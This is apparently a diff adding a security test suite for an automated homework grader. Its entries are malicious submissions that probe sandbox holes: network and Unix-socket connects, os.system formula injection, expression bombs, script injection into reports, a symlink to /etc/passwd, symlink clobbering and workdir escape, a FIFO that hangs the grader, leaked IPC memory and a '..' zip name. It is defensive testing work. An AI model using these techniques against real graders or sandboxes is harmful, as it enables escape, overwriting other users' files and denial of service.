+           WEIGHT_DECAY_EXPLANATION = "\\n".join([_connect("192.0.2.1", 80),
+                                                  _connect("1.1.1.1", 443)])
+       """)})
+
+attack("udp_loopback", "sends a UDP datagram to the test's socket on 127.0.0.1 (and one to a "
+       "public address)",
+       hole="Landlock (ABI <= 7) restricts TCP only: UDP sockets reach loopback services and "
+            "the network",
+       files={"problem4.py": patched("problem4.py", _CONNECT + """
+           WEIGHT_DECAY_EXPLANATION = "\\n".join([
+               _connect("127.0.0.1", @UPORT@, socket.SOCK_DGRAM),
+               _connect("192.0.2.1", 53, socket.SOCK_DGRAM)])
+       """)})
+
+attack("unix_socket_connect", "connects to a Unix socket the test listens on (think "
+       "/run/docker.sock or an ssh-agent)",
+       hole="Landlock (ABI <= 7) does not restrict connect() on pathname Unix sockets: any "
+            "local service listening on one is reachable",
+       files={"problem4.py": patched("problem4.py", _TRY + """
+           import socket
+           def _unix():
+               with socket.socket(socket.AF_UNIX) as s:
+                   s.connect("@USOCK@")
+                   s.sendall(b"GADV-@NONCE@")
+                   return "connected"
+           WEIGHT_DECAY_EXPLANATION = _try("unix", _unix)
+       """)})
+
+# --- formulas -------------------------------------------------------------------------------
+
+attack("formula_code_injection", "UPDATE_RULE is __import__('os').system(...), DECAY_FACTOR "
+       "a power tower (1-eta*lam)**(10**10**10)",
+       items("p4.update_rule", "p4.decay_factor", status="failed"), 84,
+       files={"problem4.py": patched("problem4.py", """
+           UPDATE_RULE = "__import__('os').system('touch @VICTIMS@/pwned')"
+           DECAY_FACTOR = "(1-eta*lam)**(10**10**10)"
+       """)})
+
+attack("formula_size_bombs", "UPDATE_RULE is a 96 kB formula, DECAY_FACTOR nested 140 "
+       "parentheses deep",
+       items("p4.update_rule", "p4.decay_factor", status="failed"), 84,
+       files={"problem4.py": patched("problem4.py", """
+           UPDATE_RULE = "w" + "+0*w" * 24_000
+           DECAY_FACTOR = "(" * 140 + "1 - eta*lam" + ")" * 140
+       """)})
+
+attack("formula_algebra_bomb", "UPDATE_RULE is equivalent to the answer at every sample point "
+       "but needs a degree-64 expansion in four symbols to prove it",
+       items("p4.update_rule", status="failed"), 87,
+       files={"problem4.py": patched("problem4.py", """
+           UPDATE_RULE = ("w - eta*(dJ + lam*w) + (w+eta+lam+dJ)**32*(w-eta+lam-dJ)**32"
+                          " - ((w+lam)**2-(eta+dJ)**2)**32")
+       """)})
+
+# --- report injection -----------------------------------------------------------------------
+
+attack("report_injection", "script, HTML and Markdown in APPROACH, REASONS, printed output, "
+       "exception messages, an import error, a formula, a free-text answer and a file name",
+       {**items("p1.approach", "p1.softmax", "p4.update_rule", status="failed"),
+        "p1.one_hot": "error", **module("problem3", "error")}, 47,
+       symlinks={"<img src=x onerror=alert(1)>.py": "/etc/passwd"},
+       files={
+           "problem1.py": patched("problem1.py", f"""
+               INJECTION = {INJECTION!r}
+               APPROACH = REASONS = INJECTION
+               def one_hot(labels, num_classes=10):
+                   print(INJECTION)
+                   raise ValueError(INJECTION)
+               def softmax(logits):
+                   print(INJECTION)
+                   return np.zeros(1)
+           """),
+           "problem3.py": prepended("problem3.py", f"""
+               print({INJECTION!r})
+               raise RuntimeError({INJECTION!r})
+           """),
+           "problem4.py": patched("problem4.py", f"""
+               UPDATE_RULE = WEIGHT_DECAY_EXPLANATION = {INJECTION!r}
+           """)})
+
+# --- the private folder, between two workers ------------------------------------------------
+
+attack("stderr_fifo", "at import, replaces its worker's stderr.txt (in its private folder) "
+       "with a named pipe, then exits so the grader reads it",
+       module("problem4", "crashed"), 74,
+       hole="execution._death_message() reads private/stderr.txt, which the worker may "
+            "replace: a named pipe blocks the grader forever (a symlink to /dev/zero would "
+            "exhaust its memory)",
+       files={"problem4.py": prepended("problem4.py", """
+           import os
+           os.unlink("../stderr.txt")
+           os.mkfifo("../stderr.txt")
+           os._exit(1)
+       """)})
+
+attack("private_symlink_clobber", "at import, plants symlinks named plan.json and stderr.txt "
+       "in its private folder pointing at victim files, then crashes so that a fresh worker "
+       "is launched in the same folder",
+       module("problem1", "crashed"), 78,
+       victims=("@VICTIMS@/plan_victim.txt", "@VICTIMS@/stderr_victim.txt"),
+       hole="after a worker dies, the next worker reuses the private folder: the grader "
+            "writes plan.json and the fork server opens stderr.txt with O_TRUNC through the "
+            "dead worker's symlinks, overwriting any file the grader may write",
+       files={"problem1.py": prepended("problem1.py", """
+           import os
+           for _name, _target in (("../plan.json", "@VICTIMS@/plan_victim.txt"),
+                                  ("../stderr.txt", "@VICTIMS@/stderr_victim.txt")):
+               try:
+                   os.unlink(_name)
+               except FileNotFoundError:
+                   pass
+               os.symlink(_target, _name)
+           os._exit(1)
+       """)})
+
+attack("workdir_symlink_escape", "at import, replaces private/submission with a symlink to "
+       "its own original folder and crashes: the next worker resolves the link, and Landlock "
+       "lets it write the link target's parent (the class folder)",
+       module("problem1", "crashed"), 78,
+       victims=("@CLASS@/gadv_workdir_escape.txt",
+                "@CLASS@/bob_forgot_biases/gadv_workdir_escape.txt"),
+       hole="worker.run_plan() resolves plan['root'] and confines writes to root.parent: a "
+            "dead worker's symlink at private/submission makes the next worker writable on "
+            "any folder's parent (here, every submission)",
+       files={
+           "problem1.py": prepended("problem1.py", """
+               import os
+               if os.path.realpath(os.getcwd()) != os.path.realpath(
+                       "@CLASS@/workdir_symlink_escape"):
+                   os.rename("../submission", "../submission_moved")
+                   os.symlink("@CLASS@/workdir_symlink_escape", "../submission")
+                   os._exit(1)
+           """),
+           "problem2.py": prepended("problem2.py", """
+               import os as _os
+               for _path in ("@CLASS@/gadv_workdir_escape.txt",
+                             "@CLASS@/bob_forgot_biases/gadv_workdir_escape.txt"):
+                   try:
+                       with open(_path, "w") as _f:
+                           _f.write("GADV-@NONCE@")
+                   except OSError:
+                       pass
+           """)})
+
+attack("sysv_ipc_leak", "at import, creates a System V shared-memory segment and message "
+       "queue, which no process owns",
+       hole="System V IPC objects outlive the worker (no IPC namespace): a submission can "
+            "leave shared memory behind, RAM that no rlimit or kill reclaims",
+       files={"problem4.py": patched("problem4.py", """
+           import ctypes
+           _libc = ctypes.CDLL(None, use_errno=True)
+           _libc.shmget(ctypes.c_int(@IPCKEY@), ctypes.c_size_t(2**20), ctypes.c_int(0o1600))
+           _libc.msgget(ctypes.c_int(@IPCKEY@), ctypes.c_int(0o1600))
+       """)})
+
+attack("dotdot_zip_name", "alice's modules in a zip named '...zip', so the batch names the "
+       "submission '..'", zip=True, filename="...zip",
+       victims=("@OUTPARENT@/report.html", "@OUTPARENT@/report.md",
+                "@OUTPARENT@/results.json", "@OUTPARENT@/.grader-state.json"),
+       hole="batch.submission_name() turns '...zip' into '..', and _grade_one() writes its "
+            "reports and state file to out/.., outside the out folder")
+
+BY_NAME = {a.name: a for a in ATTACKS}
+assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"
